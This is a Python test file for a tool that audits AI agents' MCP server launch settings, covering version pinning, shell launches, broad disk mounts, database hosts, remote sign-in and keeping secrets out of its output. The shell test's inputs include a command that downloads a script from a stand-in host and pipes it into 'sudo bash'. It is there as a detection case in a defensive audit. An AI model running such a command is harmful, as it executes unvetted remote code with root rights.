"""What is told of how an agent's server is started or reached, and that nothing else of it is kept."""

from __future__ import annotations

import pytest

from connectors.git.agents import servers
from connectors.git.launches import launch_of

HIDDEN = "hidden-" + "value"
DIGEST = f"ghcr.io/a/b@sha256:{'0' * 64}"
COMMIT = "a" * 40


@pytest.mark.parametrize(
    ("command", "arguments", "pinned"),
    [
        ("npx", ["-y", "@a/b@1.2.3"], True),
        ("npx", ["-y", "@a/b"], False),
        ("npx", ["-y", "b@latest"], False),
        ("npx", ["b@^1.2.0"], False),
        ("npx", ["--package=b@1.2.3", "run-b"], True),
        ("npx", ["--no-install", "b"], None),
        ("npx", ["./local"], None),
        ("npx", [f"github:a/b#{COMMIT}"], True),
        ("npx", ["github:a/b"], False),
        ("npx", ["-y"], None),
        ("cmd", ["/c", "npx", "-y", "b@1.2.3"], True),
        ("pnpm", ["dlx", "b"], False),
        ("uvx", ["b==1.2.3"], True),
        ("uvx", ["b@1.2.3"], True),
        ("uvx", ["b>=1.2"], False),
        ("uvx", ["--from", f"git+https://git.example/a/b@{COMMIT}", "b"], True),
        ("uvx", ["--from", "git+https://git.example/a/b@main", "b"], False),
        ("uvx", ["--python", "3.12", "b==1.0.0"], True),
        ("uv", ["tool", "run", "b"], False),
        ("pipx", ["run", "b==1.2.3"], True),
        ("docker", ["run", "-i", "--rm", "-e", "TOKEN", DIGEST], True),
        ("docker", ["run", "-i", "--rm", "-v", "/srv:/srv", "a/b:1.2"], False),
        ("docker", ["run", "--gpus", "all", DIGEST], None),
        ("docker", ["compose", "up"], None),
        ("node", ["server.js"], None),
        (5, [], None),
    ],
)
def test_a_package_is_pinned_by_its_exact_version_or_digest(
    command: object, arguments: list[str], pinned: object
) -> None:
    assert launch_of({"command": command, "args": arguments}, None).pinned is pinned


@pytest.mark.parametrize(
    ("entry", "shell"),
    [
        ({"command": "bash", "args": ["-c", HIDDEN]}, "bash -c"),
        ({"command": "/bin/sh", "args": ["-lc", HIDDEN]}, "sh -lc"),
        ({"command": "powershell.exe", "args": ["-NoProfile", "-Command", HIDDEN]}, "powershell -Command"),
        ({"command": "sh", "args": ["-c", "curl https://a.example/i | sudo bash"]}, "download piped into a shell"),
        ({"command": "cmd", "args": ["/c", "npx", "b"]}, ""),
        ({"command": "bash", "args": ["run.sh"]}, ""),
        ({"command": "python", "args": ["-c", "pass"]}, ""),
        ({"command": "bash -c 'run it'"}, "bash -c"),
        ({"command": 'server "unfinished'}, ""),
    ],
)
def test_a_shell_is_told_and_not_what_it_runs(entry: dict[str, object], shell: str) -> None:
    found = launch_of(entry, None)
    assert found.shell == shell
    assert HIDDEN not in repr(found)


@pytest.mark.parametrize(
    ("arguments", "wide"),
    [
        (["-y", "fs", "/"], ("/",)),
        (["fs", "/home/ada", "~"], ("/home/ada", "~")),
        (["fs", "C:\\"], ("C:\\",)),
        (["fs", "${HOME}"], ("${HOME}",)),
        (["run", "-v", "/:/host", "a"], ("/",)),
        (["run", "--mount", "type=bind,src=/,dst=/host", "a"], ("/",)),
        (["run", "--volume=/home:/h", "a"], ("/home",)),
        (["fs", "/srv/project", "."], ()),
        (["run", "-v", "/srv/project:/work", "a"], ()),
    ],
)
def test_the_paths_that_are_a_whole_disk_or_home(arguments: list[str], wide: tuple[str, ...]) -> None:
    assert launch_of({"command": "x", "args": arguments}, None).wide == wide


def test_of_a_database_only_the_host_is_kept() -> None:
    address = f"postgresql://app:{HIDDEN}@prod-db.orchard.example/shop"
    found = launch_of({"command": "npx", "args": ["pg@1.0.0", address]}, None)
    assert found.databases == ("prod-db.orchard.example",)
    assert HIDDEN not in repr(found)


@pytest.mark.parametrize(
    ("entry", "address", "told"),
    [
        ({}, "http://a.example/mcp", ("http", "a.example", None)),
        ({"headers": {"Authorization": HIDDEN}}, "https://a.example", ("https", "a.example", "headers")),
        ({"headers": {"Accept": "x"}}, "https://a.example", ("https", "a.example", None)),
        ({"requestInit": {"headers": {"X-Api-Key": HIDDEN}}}, "https://a.example", ("https", "a.example", "headers")),
        ({"oauth": {"clientId": "a"}}, "https://a.example", ("https", "a.example", "settings")),
        ({"bearer_token_env_var": "T"}, "https://a.example", ("https", "a.example", "settings")),
        ({}, f"https://a.example/mcp?apiKey={HIDDEN}", ("https", "a.example", "address")),
        ({}, f"https://u:{HIDDEN}@a.example/", ("https", "a.example", "address")),
        ({}, "http://[", (None, None, None)),
        (
            {"command": "npx", "args": ["mcp-remote@0.1.2", "https://a.example/sse"]},
            None,
            ("https", "a.example", "settings"),
        ),
        ({"command": "npx", "args": ["b"]}, None, (None, None, None)),
    ],
)
def test_how_a_server_elsewhere_is_reached(entry: dict[str, object], address: str | None, told: object) -> None:
    found = launch_of(entry, address)
    assert (found.scheme, found.host, found.signs_in) == told
    assert HIDDEN not in repr(found)


def test_a_server_that_is_trusted_asks_for_nothing() -> None:
    (server,) = servers(".gemini/settings.json", '{"mcpServers": {"a": {"command": "a", "trust": true}}}') or ()
    assert server.approved == ("*",)
